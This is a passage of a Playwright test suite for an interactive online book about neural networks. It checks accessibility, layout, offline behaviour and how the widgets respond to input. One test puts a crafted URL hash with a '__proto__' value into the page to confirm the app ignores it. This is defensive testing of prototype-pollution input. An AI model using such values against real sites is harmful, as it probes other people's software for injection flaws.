"""The built book in a browser: alone, without errors, for everybody; and every widget, used.

Needs the book (`make book`) and Chromium (README.md).
"""

import gzip
import io
import json
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import nbformat
import numpy as np
import pytest
import yaml
from axe_playwright_python.base import AxeResults
from axe_playwright_python.sync_playwright import Axe
from helpers import served
from PIL import Image
from playwright.sync_api import expect

ROOT = Path(__file__).parents[2]
SITE = ROOT / "_build" / "html"
PAGES = sorted(str(path.relative_to(SITE)) for path in SITE.glob("book/**/*.html"))
PAGES += ["404.html", "genindex.html", "search.html"] if PAGES else []
PHONE, DESK = {"width": 360, "height": 740}, {"width": 1280, "height": 900}
ZOOMED = {"width": 640, "height": 450}  # what a desk shows at 200 %
LOOKS = [(DESK, "light"), (DESK, "dark"), (PHONE, "light")]
#: A phone that is touched, three of whose pixels are one of the page.
MOBILE = {"viewport": PHONE, "device_scale_factor": 3, "is_mobile": True, "has_touch": True}

pytestmark = pytest.mark.skipif(not PAGES, reason="the book is not built; run `make book`")


@pytest.fixture
def visit(chromium, address):
    """Return a function that opens a page and widgets in it, and notes what goes wrong there.

    It may run a script first, answer some requests in its own way, or not look at the widgets.
    """
    contexts = []

    def open_page(name, start=address, script="", fails=None, look=True, **options):
        context = chromium.new_context(**({"viewport": DESK} | options))
        contexts.append(context)
        page, own = context.new_page(), urlsplit(address).netloc
        page.wrong = []

        def asked(request):
            parts = urlsplit(request.url)
            if parts.scheme in ("http", "https") and parts.netloc != own:
                page.wrong.append(f"asks {parts.netloc} for {parts.path}")

        page.on("request", asked)
        page.on("console", lambda m: m.type in ("error", "warning") and page.wrong.append(m.text))
        page.on("pageerror", lambda error: page.wrong.append(str(error)))
        page.add_init_script(f"{FORBIDDEN};{script}")
        for pattern, act in (fails or {}).items():
            page.route(pattern, act)
        page.goto(f"{start}/{name}")
        live = look and not fails and options.get("java_script_enabled", True)
        for at in range(page.locator("[data-model]").count() if live else 0):
            place = page.locator("[data-model]").nth(at)
            place.scroll_into_view_if_needed()
            place.locator(".nn-heard").wait_for(state="attached")
        return page

    yield open_page
    for context in contexts:
        context.close()


def heard(page, at=0):
    """Return what a screen reader would be told, once it has changed."""
    return page.locator(".nn-heard").nth(at).evaluate(SAME_AS_SEEN)


def picture(page, at):
    """Return the pixels of a canvas, once they are drawn, to see whether they change."""
    return page.locator("[data-model] canvas").nth(at).evaluate(PIXELS)


def slide(page, label, value):
    page.get_by_role("slider", name=label).fill(str(value))


def choice(page, label):
    return page.get_by_role("combobox", name=label, exact=True)


def press(page, button):
    page.get_by_role("button", name=button).click()


def assert_accessible(page, theme):
    """Assert that axe finds nothing: of contrast where a look is new, of the rest in the light.

    What it cannot judge of links is looked at before.
    """
    assert page.evaluate(BARE_LINKS) == [], "a link among words is not underlined"
    if not page.evaluate("'axe' in window"):
        page.evaluate(AXE)
    wrong = [] if theme == "dark" else page.evaluate(ALL_BUT_CONTRAST)
    if page.evaluate(MARK_FIRST_OF_EACH_NEW_LOOK, {"theme": theme, "right": [*RIGHT]}):
        hard_to_read, right = page.evaluate(CONTRAST)
        wrong += hard_to_read
        RIGHT.update(right)
    report = AxeResults({"violations": wrong}).generate_report()
    assert wrong == [], f"{page.viewport_size} {theme}; five texts of a look at most:\n{report}"


#: A change is drawn in the next frame.
PIXELS = """async (canvas) => {
  for (let frame = 0; frame < 2; frame++) await new Promise(requestAnimationFrame);
  const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
  return data.join();
}"""
#: … and read out when it has come to rest.
SAME_AS_SEEN = """async (heard) => {
  for (let frame = 0; frame < 2; frame++) await new Promise(requestAnimationFrame);
  while (heard.textContent !== heard.previousElementSibling.textContent) {
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return heard.textContent;
}"""
#: What the policy of a page stops ends up on its console, also where Chromium says nothing.
FORBIDDEN = """addEventListener("securitypolicyviolation", (event) =>
  console.error(`${event.effectiveDirective} forbids ${event.blockedURI}: ${event.sample}`))"""
#: The pictures that are seen, but not in their own proportions. Those far below are fetched here.
SQUEEZED = """async () => {
  const seen = [...document.querySelectorAll("article img")].filter((one) => one.checkVisibility());
  await Promise.all(seen.map((one) => { one.loading = "eager"; return one.decode(); }));
  return seen.filter(({width, height, naturalWidth, naturalHeight}) =>
    !(Math.abs(((width / height) * naturalHeight) / naturalWidth - 1) < 0.02)).map(({alt}) => alt);
}"""
#: Contrast takes axe ten times as long as the rest: it looks at the first texts of each look only.
FEW = 'axe.configure({ rules: [{ id: "color-contrast", selector: "[data-look]" }] })'
AXE = f"{Axe().axe_script};{FEW}"
ALL_BUT_CONTRAST = """async () => (await axe.run({
  resultTypes: ["violations"],
  rules: { "color-contrast": { enabled: false }, "link-in-text-block": { enabled: false } },
})).violations"""
#: What is hard to read, and the looks of which all was found right. What axe calls incomplete, as a
#: text upon a picture, or half upon something, is neither.
CONTRAST = """async () => {
  const { violations, passes } = await axe.run({
    runOnly: ["color-contrast"], resultTypes: ["violations", "passes"], elementRef: true });
  const nodes = (found) => found.flatMap((one) => one.nodes);
  const looks = (found) => nodes(found).map(({ element }) => element.dataset.look);
  const wrong = new Set(looks(violations));
  const right = looks(passes).filter((one) => !wrong.has(one));
  for (const node of nodes(violations)) {  // our mark would hide the text in the report
    delete node.element.dataset.look;
    node.html = node.element.outerHTML.slice(0, 300);
  }
  return [violations, right];
}"""
#: The links among words that are not underlined. Axe has a rule for them that takes color instead,
#: but it cannot judge a link with a tag in it, as all references have.
BARE_LINKS = """() => {
  const isInLine = (one) => getComputedStyle(one).display === "inline";
  const isLined = (one) => getComputedStyle(one).textDecorationLine.includes("underline");
  const hasText = (one) => [...one.childNodes].some(
    ({ nodeType, data }) => nodeType === Node.TEXT_NODE && data.trim());
  const isBare = (link) => {
    let block = link.parentElement;
    while (isInLine(block)) block = block.parentElement;
    const words = block.cloneNode(true);
    for (const one of words.querySelectorAll("a")) one.remove();
    const parts = [...link.querySelectorAll("*")].filter(hasText);
    return words.textContent.trim().length > 1 && !isLined(link) &&
      (hasText(link) || !parts.every(isLined));
  };
  const links = [...document.querySelectorAll("a[href], [role=link]")];
  const seen = links.filter((link) => link.textContent.trim() && isInLine(link) &&
    link.checkVisibility({ visibilityProperty: true }));
  return seen.filter(isBare).map((link) => link.outerHTML);
}"""
#: A look is the theme, the colors around a text, and its style. Mark the first five texts that are
#: seen of each look that was not found right yet, on any page; return whether there are any. We
#: take contrast to depend on nothing else, but in widgets, and in what is laid upon the page: there
#: a look is one of this page and size. Axe says nothing of the texts of drawings, nor of the link
#: that is seen only while it has the focus.
MARK_FIRST_OF_EACH_NEW_LOOK = """({ theme, right }) => {
  const TRANSPARENT = "rgba(0, 0, 0, 0) none 1";
  const [known, counts] = [new Set(right), new Map()];
  const [grounds, texts, apart] = [new Map(), new Map(), new Map()];
  for (const element of document.querySelectorAll("body, body *")) {
    const [style, above] = [getComputedStyle(element), element.parentElement];
    const ground = `${style.backgroundColor} ${style.backgroundImage} ${style.opacity}`;
    const own = ground === TRANSPARENT ? "" : ground;
    grounds.set(element, [grounds.get(above), own].filter(Boolean).join("/"));
    const { color, fontSize, fontWeight, textDecorationLine, textShadow } = style;
    texts.set(element, [color, fontSize, fontWeight, textDecorationLine, textShadow].join());
    apart.set(element, apart.get(above) || element.matches("[data-model]") ||
      (["absolute", "fixed"].includes(style.position) && element.matches("article *")));
    const place = apart.get(element) ? `${location.pathname} ${innerWidth}` : "";
    const look = [theme, place, grounds.get(element), texts.get(above), texts.get(element)].join();
    const isText = [...element.childNodes].some(
      (node) => node.nodeType === Node.TEXT_NODE && node.data.trim().length > 1);
    const isNew = isText && !known.has(look) && !element.closest("svg, .skip-link") &&
      element.checkVisibility({ opacityProperty: true, visibilityProperty: true });
    if (isNew) counts.set(look, (counts.get(look) ?? 0) + 1);
    if (isNew && counts.get(look) <= 5) element.dataset.look = look;
    else delete element.dataset.look;
  }
  return counts.size > 0;
}"""
#: The looks whose texts axe found right, of all pages that were opened here.
RIGHT = set()
#: The theme looks anew which parts scroll, some time after the page has another size.
WHAT_SCROLLS_IS_REACHED = """() =>
  [...document.querySelectorAll("pre, .pst-scrollable-table-container")].every((one) =>
    (one.tabIndex === 0) ===
    (one.scrollWidth > one.clientWidth || one.scrollHeight > one.clientHeight))"""
IS_DARK = "dark => (document.documentElement.dataset.theme === 'dark') === dark"
#: A transition out of sight never ends by itself: Chromium does not draw what no screen shows.
FITS = """() => {
  document.getAnimations().forEach((one) => one.finish());
  return document.documentElement.scrollWidth <= innerWidth;
}"""
AT_REST = """async () => {
  for (let still = 0, last; still < 20; last = scrollY) {
    await new Promise(requestAnimationFrame);
    still = scrollY === last ? still + 1 : 0;
  }
  return scrollY;
}"""
#: The height that is kept for a widget, and the one that it has.
ROOM = """(place, narrow) => {
  const states = document.querySelector("head > script[type*=widget-state]").textContent;
  place.style.minHeight = "";
  const { state } = JSON.parse(states).state[place.dataset.model];
  return [state._min_heights[narrow], place.offsetHeight];
}"""
NAME = "e => e.ariaLabel || e.closest('label')?.innerText || e.innerText"

# --- Every page ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", PAGES)
def test_a_page_asks_nobody_else_logs_no_error_fits_and_is_accessible(visit, name):
    page = visit(name)
    for size, theme in LOOKS:
        page.set_viewport_size(size)
        page.emulate_media(color_scheme=theme)
        page.wait_for_function(WHAT_SCROLLS_IS_REACHED)
        page.wait_for_function(IS_DARK, arg=theme == "dark")
        page.wait_for_function(FITS)
        assert_accessible(page, theme)
        assert page.evaluate(SQUEEZED) == []
        for widget in page.locator("[data-model]").all():
            kept, needed = widget.evaluate(ROOM, int(size == PHONE))
            assert 0.8 * needed <= kept <= 1.2 * needed, (
                "the page jumps: mend `_min_heights` of the widget"
            )
    page.set_viewport_size(ZOOMED)
    page.wait_for_function(FITS)
    assert page.wrong == []


#: A widget with a ground of this color under its text, but not around it.
LAID_UNDER = """(color) => {
  const [widget, ground, text] = ["section", "div", "p"].map((one) => document.createElement(one));
  Object.assign(ground.style, { position: "absolute", inset: "0", background: color });
  for (const one of [widget, text]) one.style.position = "relative";
  text.textContent = "Easy to read upon white";
  widget.dataset.model = "";
  widget.append(ground, text);
  document.querySelector("article").append(widget);
}"""


def test_a_text_that_is_hard_to_read_is_found_on_each_page_that_has_one(visit):
    for name in ("404.html", "genindex.html"):
        page = visit(name)
        page.evaluate(LAID_UNDER, "white")
        assert_accessible(page, "light")
        assert not page.evaluate(MARK_FIRST_OF_EACH_NEW_LOOK, {"theme": "light", "right": [*RIGHT]})
        page.evaluate("document.querySelector('article h1').style.color = '#aaa'")
        for _ in range(2):  # what was found is not what is known to be right
            with pytest.raises(AssertionError, match="color-contrast"):
                assert_accessible(page, "light")
    page = visit("book/bibliography.html")
    page.evaluate(LAID_UNDER, "white")
    page.evaluate(LAID_UNDER, "#333")
    for _ in range(2):  # one of two texts of the same look
        with pytest.raises(AssertionError, match="Easy to read"):
            assert_accessible(page, "light")


def test_a_link_that_looks_like_the_words_around_it_is_found(visit):
    page = visit("book/study.html")
    assert page.evaluate(BARE_LINKS) == []
    page.evaluate("""() => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync("a, a * { text-decoration: none !important }");
      document.adoptedStyleSheets = [sheet];
    }""")
    assert len(page.evaluate(BARE_LINKS)) > 3


@pytest.mark.parametrize(("wish", "moving"), [("reduce", False), ("no-preference", True)])
def test_nothing_slides_where_a_reader_asked_for_calm(visit, wish, moving):
    page = visit("book/fast.html", viewport=PHONE, reduced_motion=wish)
    page.evaluate("addEventListener('transitionrun', () => (window.slid = true))")
    page.locator(".primary-toggle").first.click()
    page.wait_for_timeout(700)
    assert page.evaluate("Boolean(window.slid)") == moving


#: Bytes, compressed. The page about speed shows more of the library than any other.
LESSONS = ["linear", "nonlinear", "sequential", "multiclass", "autoencoder"]
LIGHT = {**dict.fromkeys(LESSONS, 110_000), "fast": 122_000}
#: What a page holds of its figures: those that move, and the drawings.
FIGURE = re.compile(
    rb'<script type="application/vnd.jupyter.widget-state.*?</script>|<svg.*?</svg>', re.DOTALL
)


@pytest.mark.parametrize("name", LIGHT)
def test_a_lesson_is_light_before_its_figures(chromium, address, name):
    page, parts = chromium.new_page(), []
    kinds = ("document", "stylesheet", "script", "font")
    page.on("response", lambda r: r.request.resource_type in kinds and parts.append(r))
    page.goto(f"{address}/book/{name}.html", wait_until="networkidle")
    weights = {part.url: len(gzip.compress(FIGURE.sub(b"", part.body()))) for part in parts}
    page.close()
    assert len(weights) > 5
    assert sum(weights.values()) <= LIGHT[name], weights


@pytest.mark.parametrize("name", ["linear", "multiclass", "laboratory"])
def test_a_page_lives_without_a_server(visit, name):
    page = visit(f"book/{name}.html", start=SITE.as_uri())
    assert page.wrong == []


def test_everything_of_the_laboratory_is_reached_by_keyboard_and_seen(visit):
    page = visit("book/laboratory.html")
    choice(page, "image").focus()
    reached = set()
    for _ in range(20):
        reached.add(page.locator(":focus").evaluate(NAME))
        ring = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
        assert ring != "none"
        page.keyboard.press("Tab")
    told = " | ".join(reached)
    for part in ("noise", "mask", "New noise", "page to draw on", "corrupted image", "on the left"):
        assert part in told


# --- The widgets ---------------------------------------------------------------------------------


def test_laboratory_sliders_change_the_picture_and_are_told(visit):
    page = visit("book/laboratory.html")
    before, output = heard(page), picture(page, 2)
    slide(page, "noise, ±", 0.9)
    assert heard(page) != before
    assert picture(page, 2) != output
    again = heard(page)
    press(page, "New noise")
    assert heard(page) != again


def test_laboratory_mask_is_dragged_and_steered(visit):
    page = visit("book/laboratory.html")
    slide(page, "noise, ±", 0)
    slide(page, "mask, pixels a side", 8)
    corrupted = page.locator("[data-model] canvas").nth(1)
    corrupted.scroll_into_view_if_needed()
    box = corrupted.bounding_box()
    page.mouse.move(box["x"] + 10, box["y"] + 10)
    page.mouse.down()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2, steps=5)
    page.mouse.up()
    dragged = picture(page, 1)
    link = page.get_by_role("link", name="Link to")
    assert "mask_row=10&mask_column=10" in link.get_attribute("href")
    corrupted.focus()
    page.keyboard.press("ArrowDown")
    assert picture(page, 1) != dragged
    assert "mask_row=11" in link.get_attribute("href")


def test_laboratory_is_drawn_on_with_mouse_and_keyboard(visit):
    page = visit("book/laboratory.html")
    press(page, "Blank page")
    blank = picture(page, 0)
    page.locator("[data-model] canvas").first.click()
    clicked = picture(page, 0)
    page.locator("[data-model] canvas").first.focus()
    page.keyboard.press("Shift+ArrowRight")
    assert len({blank, clicked, picture(page, 0)}) == 3
    choice(page, "image").select_option("12")
    assert picture(page, 0) not in (blank, clicked)


def test_laboratory_fetches_a_network_when_it_is_chosen(visit):
    page, asked = visit("book/laboratory.html"), []
    page.on("request", lambda request: asked.append(request.url))
    output = picture(page, 4)
    choice(page, "network on the right").select_option("mse-epochs-10-batch-32-code-32-steps-8")
    name = "Output of the network on the right: MSE 10: 16 layers, latent 32"
    expect(page.get_by_role("img", name=name)).to_be_visible()
    assert [url for url in asked if "mse-epochs-10-batch-32-code-32-steps-8" in url]
    assert picture(page, 4) != output


def test_laboratory_opens_a_link(visit):
    link = "digit=21&noise=0.75&mask_size=5&mask_row=3&mask_column=4&left=specialist-noise&right=x"
    page = visit(f"book/laboratory.html#{link}")
    assert page.get_by_role("slider", name="noise").input_value() == "0.75"
    assert choice(page, "image").input_value() == "21"
    assert choice(page, "network on the left").input_value() == "specialist-noise"
    assert choice(page, "network on the right").input_value().startswith("bce-")


def test_explorer_is_moved(visit):
    page = visit("book/autoencoder.html")
    at = page.locator("[data-model] canvas").count() - 2  # after the map, before the original
    digit = picture(page, at)
    slide(page, "first latent value", -6)
    assert "Latent code (-6.00, -3.00)" in heard(page, 1)
    assert picture(page, at) != digit
    page.locator("[data-model] canvas").nth(at - 1).focus()
    page.keyboard.press("ArrowUp")
    assert "Latent code (-6.00, -2.95)" in heard(page, 1)


def test_descent_climbs_out_when_the_rate_is_too_large(visit):
    page = visit("book/linear.html")
    slide(page, "learning rate", 0.8)
    assert "to 0.119 after 30 steps" in heard(page)
    slide(page, "learning rate", 1)
    assert "e+6 after 30 steps" in heard(page)
    slide(page, "steps", 0)
    assert "after 0 steps, at w = 0.000" in heard(page)
    page.locator("[data-model] canvas").first.focus()
    page.keyboard.press("ArrowRight")
    assert "at w = 0.050" in heard(page)


def test_descent_keeps_a_path_to_compare_with_and_starts_again(visit):
    page = visit("book/linear.html")
    at_first = heard(page)
    press(page, "Keep this path")
    slide(page, "momentum", 0.5)
    kept = heard(page)
    caption = page.locator("[data-model] figcaption")
    expect(caption).to_contain_text("momentum 0.50, 30 steps")
    expect(caption).to_contain_text("kept: learning rate 0.40, momentum 0.00, 30 steps")
    end = re.search(r"to ([\d.]+) after", at_first)[1]
    assert kept.endswith(f"The kept path ends at loss {end}.")
    slide(page, "steps", 3)
    press(page, "Reset")
    assert heard(page) == at_first
    expect(page.get_by_role("slider", name="momentum")).to_have_value("0")


def test_playground_learns_xor_with_hidden_units_only(visit):
    page = visit("book/nonlinear.html", reduced_motion="reduce")
    choice(page, "points").select_option("xor")
    slide(page, "units in each", 6)
    assert "Not trained yet" in heard(page)
    for _ in range(4):
        press(page, "Run 50 epochs")
    assert "After 200 epochs" in heard(page)
    assert "200 of 200 points" in heard(page)
    slide(page, "hidden layers", 0)
    press(page, "Run 50 epochs")
    assert "200 of 200 points" not in heard(page)


def test_playground_runs_and_pauses(visit):
    page = visit("book/nonlinear.html")
    page.get_by_role("button", name="Run", exact=True).click()
    page.wait_for_timeout(500)
    press(page, "Pause")
    told = heard(page)
    assert told.startswith("After ")
    press(page, "One epoch")
    assert heard(page) != told


def test_playground_starts_again_from_the_same_weights(visit):
    page = visit("book/nonlinear.html", reduced_motion="reduce")
    choice(page, "activation").select_option("relu")
    first = heard(page)
    assert "seed 0" in first
    press(page, "Run 50 epochs")
    trained, plane, curve = heard(page), picture(page, 0), picture(page, 1)
    expect(page.locator("[data-model] canvas").nth(1)).to_have_attribute(
        "aria-label", re.compile("Loss by epoch, from .* in 50 epochs")
    )
    press(page, "Same weights again")
    assert heard(page) == first
    press(page, "Run 50 epochs")
    assert heard(page) == trained
    assert picture(page, 0) == plane
    assert picture(page, 1) != curve  # the run before is there, too
    press(page, "New weights")
    assert "seed 1" in heard(page)


def test_stepper_tells_number_after_number(visit):
    page = visit("book/sequential.html")
    press(page, "Next number")
    assert "Number 1 of 22: z1 is" in heard(page)
    press(page, "All")
    assert "Number 22 of 22" in heard(page)
    expect(page.locator(".nn-steps li")).to_have_count(22)
    slide(page, "input x1", 0)
    expect(page.locator(".nn-steps")).to_contain_text("∂L/∂W1[1,1] = x1·∂L/∂z1 = 0.00")
    press(page, "None")
    expect(page.locator(".nn-steps li")).to_have_count(0)


def test_stepper_fills_in_its_graph(visit):
    page = visit("book/sequential.html")
    written = page.locator(".nn-graph text:not(.nn-name)")
    filled = lambda: [text for text in written.all_text_contents() if text]  # noqa: E731
    assert len(filled()) == 12  # inputs, target, weights and biases
    press(page, "Next number")
    heard(page)
    expect(page.locator(".nn-graph .nn-latest")).to_have_text(
        page.locator(".nn-steps strong").last.text_content()
    )
    press(page, "All")
    heard(page)
    listed = page.locator(".nn-steps strong:last-child").all_text_contents()
    assert len(listed) == 22
    assert len(filled()) == 34
    assert set(listed) <= set(filled())


def test_reader_takes_test_digits_for_what_they_are(visit):
    page = visit("book/multiclass.html")
    for digit in range(10):
        press(page, "A test digit")
        assert f"The network predicts {digit} with" in heard(page)
    press(page, "Blank page")
    assert "Nothing is drawn" in heard(page)
    page.locator("[data-model] canvas").first.click()
    assert "The network predicts" in heard(page)


def test_landscape_is_picked_by_list_mouse_and_keyboard(visit):
    page = visit("book/laboratory.html")
    choice(page, "network").select_option("bce-epochs-10-batch-64-code-16-steps-8")
    told = [heard(page, 1)]
    assert told[0].startswith("BCE, 10 epochs, 16 layers, latent 16, batch 64")
    plot = page.locator(".nn-plot")
    plot.focus()
    page.keyboard.press("ArrowDown")
    told.append(heard(page, 1))
    plot.click(position={"x": 100, "y": 200})
    told.append(heard(page, 1))
    assert len(set(told)) == 3
    assert "parameters, test MSE" in told[2]


def test_landscape_filters_and_compares(visit):
    page = visit("book/laboratory.html")
    plot = page.locator(".nn-plot")
    choice(page, "layers").select_option("8")
    assert heard(page, 1).startswith("28 of 84 are shown. MSE, 20 epochs, 8 layers")
    press(page, "Compare with another")
    plot.focus()
    for key in ("ArrowUp", "ArrowLeft", "ArrowUp", "ArrowDown", "ArrowRight"):
        page.keyboard.press(key)  # it passes over the networks that are left out
        told = heard(page, 1)
        assert "B differs" in told or "Choose another one" in told
        assert "layers (" not in told
    choice(page, "network").select_option("bce-epochs-20-batch-32-code-16-steps-4")
    assert "B differs only in loss (BCE). Both have" in heard(page, 1)
    choice(page, "loss").select_option("mse")
    choice(page, "epochs").select_option("50")
    assert heard(page, 1).startswith("0 of 84 are shown. A: MSE")
    plot.click(position={"x": 100, "y": 100})
    press(page, "No comparison")
    assert "A: MSE" not in heard(page, 1)


def test_the_start_of_a_descent_stays_on_the_surface(visit):
    page = visit("book/linear.html")
    slide(page, "steps", 0)
    surface = page.locator("[data-model] canvas").first
    surface.focus()
    for _ in range(20):
        surface.press("ArrowLeft")
    assert "at w = -0.600, b = 0.000" in heard(page)


def test_a_fast_stroke_leaves_a_line_and_the_right_button_none(visit):
    page = visit("book/multiclass.html")
    box = page.locator("[data-model] canvas").first.bounding_box()
    middle = box["y"] + box["height"] / 2

    def stroke(button):
        page.mouse.move(box["x"] + 0.1 * box["width"], middle)
        page.mouse.down(button=button)
        page.mouse.move(box["x"] + 0.9 * box["width"], middle)
        page.mouse.up(button=button)
        ink = picture(page, 0).split(",")[14 * 28 * 4 : 15 * 28 * 4 : 4]
        return sum(int(one) < 128 for one in ink)

    assert stroke("right") == 0
    assert stroke("left") >= 20


def test_a_link_with_a_state_is_followed_in_the_same_tab_and_back(visit):
    page = visit("book/laboratory.html")
    noise = page.get_by_role("slider", name="noise")
    first = [noise.input_value(), choice(page, "image").input_value()]

    def shown():
        page.wait_for_timeout(100)
        return [noise.input_value(), choice(page, "image").input_value()]

    page.evaluate("location.hash = 'digit=21&noise=0.75'")
    assert shown() == ["0.75", "21"]
    page.evaluate("location.hash = 'digit=&noise=&mask_size=1e1&left=__proto__'")
    assert shown() == ["0.75", "21"]  # which says nothing
    page.evaluate("location.hash = 'digit=3&noise=0x1'")
    assert shown() == [first[0], "3"]
    page.go_back()
    page.go_back()
    assert shown() == ["0.75", "21"]
    page.go_back()
    assert shown() == first


def test_a_link_to_a_drawing_leaves_it_and_a_heading_all(visit):
    page = visit("book/laboratory.html")
    page.locator("[data-model] canvas").first.click(position={"x": 5, "y": 5})
    slide(page, "noise, ±", 0.9)
    drawn = picture(page, 0)
    page.get_by_role("link", name="Link to").click()
    page.evaluate("location.hash = document.querySelector('article section section').id")
    page.wait_for_timeout(100)  # in which a drawing that is lost would be
    assert picture(page, 0) == drawn
    assert page.get_by_role("slider", name="noise").input_value() == "0.9"


#: What a view of a widget listens to while it is there, and what is left of it when it has ended.
ENDED = """async (kind) => {
  const [listening, changed, observing] = [new Set(), [], new Set()];
  const { observe, disconnect } = ResizeObserver.prototype;
  ResizeObserver.prototype.observe = function (...given) {
    if (!given[0].closest("article")) observing.add(this); // not of the page's own figures
    observe.apply(this, given);
  };
  ResizeObserver.prototype.disconnect = function () {
    observing.delete(this);
    disconnect.apply(this);
  };
  const parsed = (type) =>
    JSON.parse(document.querySelector(`head > script[type*="${type}"]`).textContent);
  const [{ state }, files] = [parsed("widget-state"), parsed("nnlib.files")];
  const traits = Object.values(state).find((one) => one.state._anywidget_id === kind).state;
  const model = {
    get: (name) => name === "_static" || traits[name],
    set: (name) => changed.push(name),
    save_changes() {},
    on: (event, listener) => listening.add(event + listener),
    off: (event, listener) => listening.delete(event + listener),
    send: async ({ asset }) => {
      const bytes = await (await fetch(`../_static/assets/${files[asset][0]}`)).arrayBuffer();
      for (const one of answers) one({ asset }, [bytes]);
    },
  };
  const answers = new Set();
  const [on, off] = [model.on, model.off];
  model.on = (event, one) => (event === "msg:custom" && answers.add(one), on(event, one));
  model.off = (event, one) => (answers.delete(one), off(event, one));
  const widget = await new Promise((resolve) => {
    const register = window.nnlibRegister;
    window.nnlibRegister = (name, brought) =>
      name === kind ? resolve(brought) : register(name, brought);
    const script = document.createElement("script");
    script.src = `../_static/widgets/${files[kind][0]}`;
    document.head.append(script);
  });
  const el = document.createElement("div");
  document.body.append(el);
  const end = await widget.render({ model, el });
  while (!el.querySelector(".nn-heard")) await new Promise((resolve) => setTimeout(resolve, 50));
  const before = listening.size;
  while (answers.size) await new Promise((resolve) => setTimeout(resolve, 50));
  end();
  changed.length = 0;
  location.hash = "digit=3"; // a link that the laboratory follows
  await new Promise((resolve) => addEventListener("hashchange", resolve, { once: true }));
  return [before, [listening.size, observing.size, changed.length, el.childNodes.length]];
}"""
KINDS = {
    "linear": ["descent.Descent"],
    "nonlinear": ["playground.Playground"],
    "sequential": ["stepper.Stepper"],
    "multiclass": ["digit_reader.DigitReader"],
    "autoencoder": ["live_autoencoder.LiveAutoencoder", "code_explorer.CodeExplorer"],
    "laboratory": ["lab.Lab", "landscape.Landscape"],
    "verdicts": ["calibration.Calibration", "multiverse.Multiverse"],
}


@pytest.mark.parametrize("name", KINDS)
def test_a_view_that_ends_listens_to_nothing(visit, name):
    page = visit(f"book/{name}.html", look=False)
    for kind in KINDS[name]:
        page.evaluate("location.hash = ''")
        before, after = page.evaluate(ENDED, f"nnlib.widgets.{kind}")
        assert before > 0
        assert after == [0, 0, 0, 0]


# --- Figures on phones, on fine screens, and in few colors ---------------------------------------

#: How large each letter upon a canvas is, in pixels of the page.
LETTERS = """(() => {
  window.letters = [];
  const write = CanvasRenderingContext2D.prototype.fillText;
  CanvasRenderingContext2D.prototype.fillText = function (...given) {
    const size = parseFloat(this.font.match(/[\\d.]+px/)[0]);
    const shrunk = this.canvas.clientWidth / this.canvas.width;
    letters.push(size * this.getTransform().a * shrunk);
    return write.apply(this, given);
  };
})()"""


@pytest.mark.parametrize("name", ["autoencoder", "laboratory", "linear", "nonlinear"])
def test_a_figure_on_a_phone_has_large_letters_and_charts_as_fine_as_the_screen(visit, name):
    page = visit(f"book/{name}.html", script=LETTERS, **MOBILE)
    letters = page.evaluate("letters")
    assert len(letters) >= 8
    assert min(letters) >= 11
    found = page.locator("canvas.nn-map").evaluate_all(
        "all => all.map((c) => c.width / c.clientWidth)"
    )
    assert found
    assert all(abs(one - 3) < 0.02 for one in found)


@pytest.mark.parametrize("name", ["autoencoder", "linear", "laboratory"])
def test_a_finger_scrolls_upon_a_figure_and_changes_it_by_tap_or_across(visit, name):
    page = visit(f"book/{name}.html", **MOBILE)
    finger = page.context.new_cdp_session(page)
    canvas = page.locator("canvas.nn-map, canvas.nn-plot").last
    canvas.evaluate("c => c.scrollIntoView({ block: 'center', behavior: 'instant' })")
    page.wait_for_timeout(300)
    box, at = canvas.bounding_box(), page.locator("[data-model]").count() - 1
    x, y = box["x"] + 0.7 * box["width"], box["y"] + 0.6 * box["height"]

    def swipe(right, down, steps=10):
        send = lambda kind, *places: finger.send(  # noqa: E731
            "Input.dispatchTouchEvent",
            {"type": kind, "touchPoints": [{"x": x, "y": y} for x, y in places]},
        )
        send("touchStart", (x, y))
        for step in range(1, steps + 1) if right or down else ():
            send("touchMove", (x + right * step / steps, y + down * step / steps))
            page.wait_for_timeout(20)
        send("touchEnd")
        return heard(page, at), page.evaluate(AT_REST)

    told, place = heard(page, at), page.evaluate(AT_REST)
    after, scrolled = swipe(0, -120)
    assert after == told
    assert scrolled > place + 50
    page.evaluate("y => scrollTo({ top: y, behavior: 'instant' })", place)
    assert page.evaluate(AT_REST) == place
    after, scrolled = swipe(-100, 0)
    assert after != told
    assert scrolled == place
    assert swipe(0, 0)[0] != after


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_bars_and_the_frame_of_the_mask_are_seen_in_forced_colors(visit, scheme):
    options = {"forced_colors": "active", "color_scheme": scheme}
    bars = visit("book/multiclass.html", **options).locator(".nn-bars")
    frame = visit("book/inpainting.html", **options).locator(".nn-hole rect")
    paper = (0, 0, 0) if scheme == "dark" else (255, 255, 255)
    for place, ground in ((bars.locator(".nn-bar").nth(5), paper), (frame, (255, 255, 255))):
        seen = Image.open(io.BytesIO(place.screenshot())).convert("RGB")
        far = np.abs(np.asarray(seen, int) - ground).max(axis=2) > 90
        assert far.sum() > 60, "it cannot be told from what it lies upon"


@pytest.mark.parametrize("viewport", [DESK, PHONE])
def test_a_reader_that_is_quite_sure_says_so_in_one_line(visit, viewport):
    page = visit("book/multiclass.html", viewport=viewport)
    heights = "all => all.map((one) => Math.round(one.getBoundingClientRect().height))"
    percents = page.locator(".nn-bars > :nth-child(3n)")
    for _ in range(40):
        press(page, "A test digit")
        page.evaluate("() => new Promise(requestAnimationFrame)")  # when the bars are drawn
        if "100.0%" in percents.all_inner_texts():
            break
    assert "100.0%" in percents.all_inner_texts()
    assert len(set(percents.evaluate_all(heights))) == 1


# --- Where something does not come ---------------------------------------------------------------

SIGN_IN = "<!DOCTYPE html><title>Sign in</title><p>This network wants to know who you are."
FAILURES = {
    "404": lambda route: route.fulfill(status=404, body="no"),
    "sign-in": lambda route: route.fulfill(body=SIGN_IN, content_type="text/html"),
    "cut": lambda route: route.fulfill(body=route.fetch().body()[:50], content_type="x/y"),
    "lost": lambda route: route.abort(),
}


@pytest.mark.parametrize("what", ["assets/networks-lesson-digits*", "assets/ten*", "widgets/*"])
def test_a_figure_whose_file_does_not_come_says_so_and_tries_again(visit, what):
    files = f"**/_static/{what}"
